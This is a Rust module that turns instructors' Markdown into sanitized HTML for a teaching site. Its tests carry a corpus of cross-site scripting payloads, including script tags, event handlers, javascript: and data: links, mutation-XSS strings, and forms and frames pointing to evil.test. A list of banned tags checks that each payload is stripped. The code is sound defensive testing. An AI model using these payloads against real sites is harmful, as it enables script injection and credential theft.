//! Markdown that instructors write, as HTML that cannot do harm. HTML in it is allowed and goes
//! through the same sieve; what is not on its list disappears.

use std::borrow::Cow;
use std::collections::{HashMap, HashSet};

use ammonia::UrlRelative;
use comrak::{Arena, Options, nodes::NodeValue};

/// Classes that the stylesheet knows, besides `language-…`.
const CLASSES: &[&str] = &["footnotes", "footnote-ref", "footnote-backref"];

fn options() -> Options<'static> {
    let mut options = Options::default();
    options.extension.table = true;
    options.extension.strikethrough = true;
    options.extension.autolink = true;
    options.extension.footnotes = true;
    // The sieve below decides, not the parser.
    options.render.r#unsafe = true;
    options
}

/// Renders. `prefix` keeps ids of several texts on one page apart. Headings begin at the third
/// level, below the page's and the item's.
pub fn to_html(markdown: &str, prefix: &str) -> String {
    let arena = Arena::new();
    let options = options();
    let root = comrak::parse_document(&arena, markdown, &options);
    for node in root.descendants() {
        if let NodeValue::Heading(heading) = &mut node.data_mut().value {
            heading.level = (heading.level + 2).min(6);
        }
    }
    let mut html = String::new();
    if comrak::format_html(root, &options, &mut html).is_err() {
        return String::new();
    }
    sieve(&html, prefix)
}

fn sieve(html: &str, prefix: &str) -> String {
    let own = prefix.to_owned();
    let classes: HashMap<&str, HashSet<&str>> = ["code", "section", "sup", "a"]
        .into_iter()
        .map(|tag| (tag, HashSet::from(["class"])))
        .collect();
    let mut sieve = ammonia::Builder::default();
    sieve
        .add_tags(["section"])
        .add_tag_attributes("a", ["id"])
        .add_tag_attributes("li", ["id"])
        .add_tag_attributes("th", ["align"])
        .add_tag_attributes("td", ["align"])
        .url_schemes(HashSet::from(["http", "https", "mailto", "tel"]))
        .url_relative(UrlRelative::PassThrough)
        .link_rel(Some("nofollow noopener noreferrer"))
        .id_prefix(Some(prefix))
        .attribute_filter(move |tag, attribute, value| match (tag, attribute) {
            (_, "class") => {
                let kept = value.split_ascii_whitespace().filter(|class| {
                    CLASSES.contains(class) || (tag == "code" && class.starts_with("language-"))
                });
                let kept: Vec<_> = kept.collect();
                (!kept.is_empty()).then(|| Cow::Owned(kept.join(" ")))
            }
            ("a", "href") => Some(match value.strip_prefix('#') {
                Some(id) => Cow::Owned(format!("#{own}{id}")),
                None => value.into(),
            }),
            // Other hosts would learn who reads what; the policy stops them anyway.
            ("img", "src") => value.starts_with("/files/").then_some(value.into()),
            _ => Some(value.into()),
        });
    for (tag, attributes) in classes {
        sieve.add_tag_attributes(tag, attributes);
    }
    sieve.clean(html).to_string()
}

/// The beginning as plain text, cut at a word.
pub fn excerpt(markdown: &str, chars: usize) -> String {
    let arena = Arena::new();
    let root = comrak::parse_document(&arena, markdown, &options());
    let mut text = String::new();
    for node in root.descendants() {
        match &node.data().value {
            NodeValue::Text(piece) => text.push_str(piece),
            NodeValue::Code(code) => text.push_str(&code.literal),
            NodeValue::SoftBreak | NodeValue::LineBreak => text.push(' '),
            value if value.block() && !text.is_empty() && !text.ends_with(' ') => text.push(' '),
            _ => {}
        }
    }
    let text = text.split_whitespace().collect::<Vec<_>>().join(" ");
    let Some((cut, _)) = text.char_indices().nth(chars) else { return text };
    let end = text[..cut].rfind(' ').unwrap_or(cut);
    format!("{}…", text[..end].trim_end_matches([',', '.', ';', ':']))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_lessons_need() {
        let html = to_html(
            "# Bab\n\n| a | b |\n|--:|---|\n| 1 | 2 |\n\n```rust\nfn main() {}\n```\n\nA note[^1].\n\n[^1]: Here.",
            "i0-",
        );
        assert!(html.contains("<h3>Bab</h3>"), "{html}");
        assert!(html.contains("<td align=\"right\">1</td>"), "{html}");
        assert!(html.contains("<code class=\"language-rust\">"), "{html}");
        assert!(html.contains("href=\"#i0-fn-1\"") && html.contains("id=\"i0-fn-1\""), "{html}");
        let link = to_html("[x](https://a.test)", "");
        assert!(link.contains("rel=\"nofollow noopener noreferrer\""), "{link}");
    }

    #[test]
    fn nothing_runs() {
        let corpus = [
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "<svg onload=alert(1)><script>alert(1)</script></svg>",
            "[a](javascript:alert(1))",
            "[a](JaVaScRiPt:alert(1))",
            "[a](data:text/html;base64,PHNjcmlwdD4=)",
            "<a href=\"jav&#x09;ascript:alert(1)\">a</a>",
            "<iframe src=https://evil.test></iframe>",
            "<form action=https://evil.test><input name=password></form>",
            "<style>body{display:none}</style>",
            "<p style=\"background:url(https://evil.test)\">a</p>",
            "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
            "```\"><script>alert(1)</script>\n```",
            "<meta http-equiv=refresh content=\"0;url=https://evil.test\">",
            "<base href=https://evil.test>",
            "<object data=x></object><embed src=x>",
            "<details ontoggle=alert(1) open>",
            "![a](https://evil.test/track.png)",
            "<button formaction=javascript:alert(1)>a</button>",
            "| <img src=x onerror=alert(1)> |\n|---|\n| a |",
            "<a id=\"csrf\" name=\"csrf\" class=\"hero evil\">a</a>",
        ];
        for source in corpus {
            let html = to_html(source, "i-").to_lowercase();
            for banned in [
                "<script",
                "onerror=",
                "onload=",
                "ontoggle=",
                "href=\"javascript",
                "href=\"data",
                "<iframe",
                "<form",
                "<input",
                "<style",
                " style=",
                "<meta",
                "<base",
                "<object",
                "<embed",
                "<svg",
                "<math",
                "<button",
                "src=\"https",
                "id=\"csrf\"",
                "evil\"",
            ] {
                assert!(!html.contains(banned), "{source} gave {html}");
            }
        }
    }

    #[test]
    fn excerpts_are_plain_and_cut_at_words() {
        assert_eq!(
            excerpt("# Judul\n\nBelajar **dasar** `kode`.", 100),
            "Judul Belajar dasar kode."
        );
        assert_eq!(excerpt("satu dua tiga empat", 10), "satu dua…");
        assert_eq!(excerpt("", 10), "");
    }
}
